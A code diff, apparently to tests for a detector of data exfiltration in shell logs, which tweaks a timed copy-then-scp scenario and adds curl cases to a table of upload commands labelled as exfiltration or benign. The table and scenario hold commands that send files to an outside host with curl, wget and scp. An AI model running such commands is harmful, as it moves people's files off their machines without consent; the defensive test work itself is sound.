@@ -182,7 +182,7 @@ const CONDITIONS: Condition[] = [
     act: ({ log, mine }) => {
       const shell = log.shell('clerk');
       shell.run(`/bin/cp ${mine.path} /tmp/a`).read(mine.path);
-      log.wait(11 * MINUTE);
+      log.wait(10.5 * MINUTE);
       shell.run(`/usr/bin/scp /tmp/b x@${OUT}:`).connect(OUT, 22);
     },
   },
@@ -272,6 +272,8 @@ const UPLOADS: readonly (readonly [string, boolean])[] = [
   [`/usr/bin/curl -d @a http://${OUT}/x`, true],
   [`/usr/bin/curl --data-binary=@a http://${OUT}/x`, true],
   [`/usr/bin/curl -d ${'a'.repeat(65)} http://${OUT}/x`, true],
+  [`/usr/bin/curl http://${OUT}/x -d`, true],
+  [`/usr/bin/curl http://${OUT}/x -o cpu.txt`, false],
   [`/usr/bin/curl -d status=done http://${OUT}/x`, false],
   [`/usr/bin/curl -Fstatus=done http://${OUT}/x`, false],
   [`/usr/bin/wget --post-file=a http://${OUT}/x`, true],
